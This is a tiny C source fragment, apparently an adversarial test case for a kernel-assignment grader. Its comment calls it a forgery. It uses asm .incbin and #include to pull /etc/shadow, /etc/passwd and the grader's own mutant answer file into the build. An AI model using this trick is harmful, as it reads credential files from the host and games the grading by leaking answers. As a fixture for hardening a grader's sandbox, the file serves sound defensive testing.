// A forgery: takes files of the grader's host into the kernel, to print them or to learn the
// answers.
#include "vfs/fd_table.h"

asm(".incbin \"/etc/shadow\"");
#include "../../grading/mutants/b.toml"
#include "/etc/passwd"
